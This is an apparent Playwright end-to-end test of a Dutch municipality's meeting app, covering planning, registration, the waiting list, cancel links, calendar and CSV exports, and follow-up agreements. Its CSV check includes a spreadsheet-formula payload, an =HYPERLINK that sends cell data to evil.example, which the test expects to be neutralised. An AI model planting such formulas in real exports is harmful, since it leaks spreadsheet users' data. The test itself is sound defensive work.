// SPDX-License-Identifier: EUPL-1.2
/**
 * Scenario 03, "The yearly network meeting", in the browser (issue 15 item 3, ADR 0038), with axe on
 * every page on the way and every person in their own guarded context (a CSP violation, a console
 * error or a request to another host fails the test):
 *
 * 1. Petra, the municipality's network coordinator (demo account, password and authenticator code),
 *    plans "Samen sterk in de kring van veiligheid" in the town hall with an agenda and 80 places,
 *    publishes it, publishes a news article that links to it, and links the meeting to the article
 *    as its announcement.
 * 2. Ahmed, volunteer at VV Harderwijk, not signed in, goes from the home page to the meetings and
 *    the meeting, registers, gets the confirmation with a cancel link (the development outbox is the
 *    test server's mail sink) and downloads the iCalendar file.
 * 3. Petra lowers the places to 2 through the edit form; Sanne takes the last place; the page says it
 *    is full; Karin and a formula-named registrant are put on the waiting list (the e-mail says so).
 *    Sanne opens her cancel link (a question first: nothing changes), confirms; Karin moves up and is
 *    told by e-mail; the link is used up.
 * 4. Petra downloads the attendance list as CSV: the headings, Ahmed's row, the formula neutralised.
 * 5. Petra moves the meeting's date to yesterday through the edit form (the form takes a past date),
 *    records three agreements with owners and due dates (one done), publishes the retrospective
 *    linked to the meeting, and plans the next meeting: its public page shows the two open ones.
 */
import type { Page } from 'playwright-core';
import { beforeAll, describe, expect, test } from 'vitest';
import { seedIdentityDemo } from '#src/modules/identity/identity.seed.ts';
import { messages } from '#src/web/i18n/messages.ts';
import { TestClock } from '#test/agent.ts';
import { useBrowserSession } from './browser.ts';
import { expectNotice, fillDate, kringDate, mailsTo, signIn } from './circle-scenario.ts';
import { contextPool } from './guarded-context.ts';
import {
  AGENDA,
  AHMED,
  cancelLinkOf,
  download,
  FORMULA,
  fillMeetingForm,
  KARIN,
  openEditForm,
  PETRA,
  publishArticle,
  register,
  registrationsOn,
  rowsOf,
  SANNE,
  saveMeeting,
  TITLE,
} from './network-meeting-steps.ts';
import { axe, axeChecked, shot, textOf } from './walk.ts';

const t = messages('nl');
const m = t.meetings;
const d = m.public;
const e = m.editor;
const clock = new TestClock();
const session = useBrowserSession({ clock: clock.now });
let pool: ReturnType<typeof contextPool>;

const meetingDate = kringDate(clock, 60);
const ANNOUNCEMENT = 'Meld u aan: Samen sterk in de kring van veiligheid';
const RETROSPECTIVE = 'Terugblik: Samen sterk in de kring van veiligheid';
/** The three agreements; the second is marked done, so only the first and third carry over. */
const ACTIONS = [
  {
    description: 'Elke sportvereniging kiest een vertrouwenscontactpersoon',
    owner: 'Netwerkcoördinator van de gemeente',
    due: { day: '1', month: '3', year: '2028', iso: '2028-03-01' },
    shown: '1 maart 2028',
  },
  {
    description: 'Het verslag van de avond naar alle deelnemers sturen',
    owner: 'Gemeente Harderwijk',
    due: { day: '15', month: '1', year: '2028', iso: '2028-01-15' },
    shown: '15 januari 2028',
  },
  {
    description: 'Een training signalen herkennen voor trainers van VV Harderwijk',
    owner: 'Veilig Thuis Noord- en Oost-Gelderland',
    due: { day: '30', month: '6', year: '2028', iso: '2028-06-30' },
    shown: '30 juni 2028',
  },
] as const;

/** The Dutch day of the meeting in words, written with Intl here (not Kring's formatter). */
function dutchDay(date: { iso: string }): string {
  return new Intl.DateTimeFormat('nl-NL', {
    timeZone: 'UTC',
    weekday: 'long',
    day: 'numeric',
    month: 'long',
    year: 'numeric',
  }).format(new Date(`${date.iso}T12:00:00Z`));
}

// What the steps hand on to each other.
let meetingId = '';
let announcementPath = '';

beforeAll(async () => {
  const { app } = session.server;
  await app.kring.database.db.transaction().execute((trx) => seedIdentityDemo(trx, app.kring.config));
  pool = contextPool(session.browser, session.server);
});

describe('scenario 03: the yearly network meeting', () => {
  let petra: Page;
  let ahmed: Page;
  let outbox: Page;
  const base = () => session.server.baseUrl;

  test('1. Petra plans the meeting, publishes it and announces it in a news article', async () => {
    petra = await (await pool.open()).newPage();
    outbox = await (await pool.open()).newPage();
    await signIn(petra, session.server, clock, PETRA);
    await axe(petra, 'mijn kring (Petra)');
    await petra.goto(`${base()}/netwerk/bijeenkomsten`);
    await petra.getByRole('heading', { name: e.title, level: 1 }).waitFor();
    await axe(petra, 'bijeenkomsten beheren');
    await petra.getByRole('link', { name: e.add }).click();
    await petra.getByRole('heading', { name: e.newTitle, level: 1 }).waitFor();
    await axe(petra, 'nieuwe bijeenkomst');
    await fillMeetingForm(petra, {
      title: TITLE,
      date: meetingDate,
      start: '19:30',
      end: '22:00',
      placeName: 'Stadhuis',
      placeAddress: 'Havendam 56, Harderwijk',
      agenda: AGENDA,
      capacity: '80',
    });
    meetingId = await saveMeeting(petra, e.notices.created);
    expect(await textOf(petra.locator('main'))).toContain(`${e.visible}. ${e.registered}: ${e.counts(0, 80, 0)}`);
    await axe(petra, 'bijeenkomst (editor, aangemaakt)');

    // The announcement links to the meeting's public page; the meeting links back to it.
    announcementPath = await publishArticle(
      petra,
      base(),
      {
        title: ANNOUNCEMENT,
        summary: 'De jaarlijkse netwerkbijeenkomst in het stadhuis: voor inwoners, vrijwilligers en professionals.',
        body: `Op de netwerkbijeenkomst praten wij samen over veiligheid thuis.\n\n[Meld u aan voor de bijeenkomst](/bijeenkomsten/${meetingId})`,
      },
      'aankondiging',
    );
    const toMeeting = petra.getByTestId('article-body').getByRole('link', { name: 'Meld u aan voor de bijeenkomst' });
    expect(await toMeeting.getAttribute('href')).toBe(`/bijeenkomsten/${meetingId}`);

    await openEditForm(petra, base(), meetingId, 'bijeenkomst wijzigen (aankondiging)');
    await petra
      .getByLabel(e.fields.announcementArticleId, { exact: true })
      .selectOption({ label: `${ANNOUNCEMENT} (${kringDate(clock, 0).iso})` });
    await saveMeeting(petra, e.notices.updated);
    await shot(petra, 'meeting-editor-planned');
  });

  test('2. Ahmed finds the meeting from the home page, registers, gets the e-mail and the calendar file', async () => {
    ahmed = await (await pool.open()).newPage();
    await ahmed.goto(`${base()}/`);
    await axe(ahmed, 'home');
    await ahmed.getByRole('main').getByRole('link', { name: m.homeEntry.title }).click();
    await ahmed.waitForURL(`${base()}/bijeenkomsten`);
    await ahmed.getByRole('heading', { name: d.title, level: 1 }).waitFor();
    await axe(ahmed, 'bijeenkomsten');
    await ahmed.getByRole('link', { name: TITLE }).click();
    await ahmed.waitForURL(`${base()}/bijeenkomsten/${meetingId}`);
    await ahmed.getByRole('heading', { name: TITLE, level: 1 }).waitFor();
    await axe(ahmed, 'bijeenkomst');
    await shot(ahmed, 'meeting-public');

    const main = await textOf(ahmed.locator('main'));
    expect(main).toContain(`${dutchDay(meetingDate)} van 19:30 tot 22:00 uur`);
    expect(main).toContain('Stadhuis, Havendam 56, Harderwijk');
    expect(await ahmed.locator('main ol li').allTextContents()).toEqual([...AGENDA]);
    expect(await textOf(ahmed.locator('main').getByRole('status'))).toBe('Nog 80 van 80 plaatsen vrij');
    expect(await ahmed.getByRole('link', { name: ANNOUNCEMENT }).getAttribute('href')).toBe(announcementPath);

    await register(ahmed, AHMED, 'Ahmed');

    const [mail] = await mailsTo(outbox, base(), AHMED.email, 1);
    await axe(outbox, 'ontwikkeling: verstuurde e-mail');
    expect(mail!.subject).toBe(`Aanmelding bevestigd: ${TITLE}`);
    expect(mail!.text).toContain(`Beste ${AHMED.name},`);
    expect(mail!.text).toContain(`${dutchDay(meetingDate)} van 19:30 tot 22:00 uur, Stadhuis, Havendam 56, Harderwijk`);
    cancelLinkOf(mail!.text);

    // The calendar file: Amsterdam's clock with its zone, whatever the server's zone is.
    await ahmed.goto(`${base()}/bijeenkomsten/${meetingId}`);
    const ics = await download(ahmed, ahmed.getByRole('link', { name: d.calendar }));
    expect(ics.name).toBe(`bijeenkomst-${meetingDate.iso}.ics`);
    expect(ics.response.headers()['content-type']).toBe('text/calendar; charset=utf-8');
    const lines = ics.text.replace(/\r\n[ \t]/g, '').split('\r\n');
    const day = meetingDate.iso.replaceAll('-', '');
    expect(lines).toContain('BEGIN:VEVENT');
    expect(lines).toContain(`SUMMARY:${TITLE}`);
    expect(lines).toContain(`DTSTART;TZID=Europe/Amsterdam:${day}T193000`);
    expect(lines).toContain(`DTEND;TZID=Europe/Amsterdam:${day}T220000`);
    expect(lines).toContain('TZID:Europe/Amsterdam');
    expect(lines).toContain('LOCATION:Stadhuis\\, Havendam 56\\, Harderwijk');
  });

  test('3. full: the next waits; a cancel (after a question) moves the first waiting up, told by e-mail', async () => {
    // Petra lowers the places through the edit form: Ahmed keeps his, one is left.
    await openEditForm(petra, base(), meetingId, 'bijeenkomst wijzigen (plaatsen)');
    await petra.getByLabel(e.fields.capacity, { exact: true }).fill('2');
    await saveMeeting(petra, e.notices.updated);
    expect(await textOf(petra.locator('main'))).toContain(e.counts(1, 2, 0));

    const sanne = await (await pool.open({ allowConsoleErrors: /status of 404 \(Not Found\)/ })).newPage();
    await sanne.goto(`${base()}/bijeenkomsten/${meetingId}`);
    expect(await textOf(sanne.locator('main').getByRole('status'))).toBe('Nog 1 van 2 plaatsen vrij');
    await axe(sanne, 'bijeenkomst (1 plaats vrij)');
    await register(sanne, SANNE, 'Sanne');

    const waiting = await (await pool.open()).newPage();
    for (const who of [KARIN, FORMULA]) {
      await waiting.goto(`${base()}/bijeenkomsten/${meetingId}`);
      expect(await textOf(waiting.locator('main').getByRole('status'))).toBe(
        'Vol (2 plaatsen): u kunt op de wachtlijst',
      );
      await axe(waiting, `bijeenkomst vol (${who.email})`);
      await register(waiting, who, who.email);
    }
    const [karinMail] = await mailsTo(outbox, base(), KARIN.email, 1);
    expect(karinMail!.subject).toBe(`Op de wachtlijst: ${TITLE}`);
    expect(karinMail!.text).toContain('is vol. U staat op de wachtlijst.');
    const [sanneMail] = await mailsTo(outbox, base(), SANNE.email, 1);
    expect(sanneMail!.subject).toBe(`Aanmelding bevestigd: ${TITLE}`);

    // The link from her e-mail asks first; opening it changes nothing.
    const cancel = cancelLinkOf(sanneMail!.text);
    await sanne.goto(`${base()}${cancel}`);
    await sanne.getByRole('heading', { name: d.cancelTitle, level: 1 }).waitFor();
    expect(await textOf(sanne.locator('main'))).toContain(d.cancelText(TITLE));
    await axe(sanne, 'afmelden (vraag)');
    await petra.goto(`${base()}/netwerk/bijeenkomsten/${meetingId}`);
    expect(await registrationsOn(petra)).toEqual([
      [AHMED.name, m.statuses.confirmed],
      [SANNE.name, m.statuses.confirmed],
      [KARIN.name, m.statuses.waiting],
      [FORMULA.name, m.statuses.waiting],
    ]);

    await sanne.getByRole('button', { name: d.cancelConfirm }).click();
    await sanne.getByRole('heading', { name: d.cancelledTitle, level: 1 }).waitFor();
    await axe(sanne, 'afgemeld');

    // Karin, the first waiting, moves up and is told; the second waiting is not.
    const karin = await mailsTo(outbox, base(), KARIN.email, 2);
    expect(karin.map((x) => x.subject)).toContain(`Er is een plaats voor u: ${TITLE}`);
    const movedUp = karin.find((x) => x.subject.startsWith('Er is een plaats'))!;
    expect(movedUp.text).toContain(`U bent nu aangemeld voor "${TITLE}"`);
    await mailsTo(outbox, base(), FORMULA.email, 1);
    // The moved-up e-mail points to the first e-mail's link: it now cancels a place.
    await sanne.goto(`${base()}${cancelLinkOf(karin.find((x) => x.subject.startsWith('Op de wachtlijst'))!.text)}`);
    expect(await textOf(sanne.locator('main'))).toContain(d.cancelText(TITLE));
    await petra.goto(`${base()}/netwerk/bijeenkomsten/${meetingId}`);
    expect(await registrationsOn(petra)).toEqual([
      [AHMED.name, m.statuses.confirmed],
      [KARIN.name, m.statuses.confirmed],
      [FORMULA.name, m.statuses.waiting],
    ]);
    expect(await textOf(petra.locator('main'))).toContain(e.counts(2, 2, 1));
    await axe(petra, 'bijeenkomst (editor, aanmeldingen)');

    // The link is used up: a plain 404 page.
    const gone = await sanne.goto(`${base()}${cancel}`);
    expect(gone?.status()).toBe(404);
    await sanne.getByRole('heading', { name: d.cancelGoneTitle, level: 1 }).waitFor();
    await axe(sanne, 'afmeldlink gebruikt');
  });

  test('4. Petra downloads the attendance list as CSV', async () => {
    await petra.goto(`${base()}/netwerk/bijeenkomsten/${meetingId}`);
    const csv = await download(petra, petra.getByRole('link', { name: e.csv }));
    expect(csv.name).toBe(`aanwezigen-${meetingDate.iso}.csv`);
    expect(csv.response.headers()['content-type']).toBe('text/csv; charset=utf-8');
    expect(csv.response.headers()['content-disposition']).toBe(
      `attachment; filename="aanwezigen-${meetingDate.iso}.csv"`,
    );
    expect(csv.text.startsWith('\uFEFF')).toBe(true);
    expect(csv.text.slice(1).split('\r\n')).toEqual([
      'Naam,Organisatie,E-mailadres,Komt als,Status',
      'Ahmed El Amrani,VV Harderwijk,ahmed@vvharderwijk.example,Vrijwilliger,Aangemeld',
      'Karin de Vries,,karin@thuis.example,Inwoner,Aangemeld',
      `"'=HYPERLINK(""https://evil.example/?d=""&C2,""Klik hier"")",'+31 Vereniging,formule@evil.example,Inwoner,Op de wachtlijst`,
      '',
    ]);
  });

  test('5. after the meeting: three agreements, the retrospective, the open ones on the next meeting', async () => {
    // The meeting took place yesterday: the edit form takes a date in the past.
    const yesterday = kringDate(clock, -1);
    await openEditForm(petra, base(), meetingId, 'bijeenkomst wijzigen (datum)');
    await fillDate(petra, e.fields.date, yesterday);
    await saveMeeting(petra, e.notices.updated);

    const f = e.actionFields;
    for (const action of ACTIONS) {
      await petra.getByLabel(f.description, { exact: true }).fill(action.description);
      await petra.getByLabel(f.owner, { exact: true }).fill(action.owner);
      await fillDate(petra, f.due, action.due);
      await petra.getByRole('button', { name: e.addAction }).click();
      await expectNotice(petra, e.notices.action);
    }
    await axe(petra, 'bijeenkomst (editor, afspraken)');
    // Petra reads the due dates as everyone else does, not as the stored ISO dates.
    for (const action of ACTIONS) {
      expect(await textOf(petra.getByRole('listitem').filter({ hasText: action.description }))).toContain(
        `${action.description} (${action.owner}, ${action.shown}): ${e.open}`,
      );
    }
    await petra
      .getByRole('listitem')
      .filter({ hasText: ACTIONS[1].description })
      .getByRole('button', { name: e.markDone })
      .click();
    await expectNotice(petra, e.notices.updated);

    const retrospectivePath = await publishArticle(
      petra,
      base(),
      {
        title: RETROSPECTIVE,
        summary:
          'Ruim tachtig inwoners, vrijwilligers en professionals praatten in het stadhuis over veiligheid thuis.',
        body: `Wij spraken drie dingen af.\n\n[Naar de bijeenkomst en de afspraken](/bijeenkomsten/${meetingId})`,
      },
      'terugblik',
    );
    await openEditForm(petra, base(), meetingId, 'bijeenkomst wijzigen (terugblik)');
    await petra
      .getByLabel(e.fields.retrospectiveArticleId, { exact: true })
      .selectOption({ label: `${RETROSPECTIVE} (${kringDate(clock, 0).iso})` });
    await saveMeeting(petra, e.notices.updated);

    // The meeting's public page: closed, with its retrospective and its agreements.
    await ahmed.goto(`${base()}/bijeenkomsten/${meetingId}`);
    expect(await textOf(ahmed.locator('main'))).toContain(d.registerClosed);
    expect(await ahmed.getByRole('link', { name: RETROSPECTIVE }).getAttribute('href')).toBe(retrospectivePath);
    expect(await ahmed.getByRole('table', { name: d.actions }).locator('tbody tr').count()).toBe(3);
    await axe(ahmed, 'bijeenkomst voorbij');

    // The next meeting, a year on.
    await petra.goto(`${base()}/netwerk/bijeenkomsten/nieuw`);
    await fillMeetingForm(petra, {
      title: 'Netwerkbijeenkomst volgend jaar',
      date: kringDate(clock, 365),
      start: '19:30',
      end: '22:00',
      placeName: 'Stadhuis',
      placeAddress: 'Havendam 56, Harderwijk',
      agenda: ['Wat is er van de afspraken gekomen?'],
      capacity: '80',
    });
    const next = await saveMeeting(petra, e.notices.created);
    await axe(petra, 'volgende bijeenkomst (editor)');

    await ahmed.goto(`${base()}/bijeenkomsten`);
    // Coming first, then the earlier ones (the meeting of yesterday).
    expect(await ahmed.locator('main').locator('h2, li a').allTextContents()).toEqual([
      d.upcoming,
      'Netwerkbijeenkomst volgend jaar',
      d.past,
      TITLE,
    ]);
    await axe(ahmed, 'bijeenkomsten (komende en eerdere)');
    await ahmed.getByRole('link', { name: 'Netwerkbijeenkomst volgend jaar' }).click();
    await ahmed.waitForURL(`${base()}/bijeenkomsten/${next}`);
    expect(await rowsOf(ahmed, d.earlierActions)).toEqual([
      [ACTIONS[0].description, ACTIONS[0].owner, ACTIONS[0].shown, TITLE],
      [ACTIONS[2].description, ACTIONS[2].owner, ACTIONS[2].shown, TITLE],
    ]);
    await axe(ahmed, 'volgende bijeenkomst');
    await shot(ahmed, 'meeting-next');
    expect(axeChecked.length).toBeGreaterThanOrEqual(30);
  });

  test("6. nobody's browser saw a CSP violation, a console error or a request to another host", async () => {
    // Closing each person's guarded context runs its checks over the whole walk.
    await pool.closeAll();
  });
});
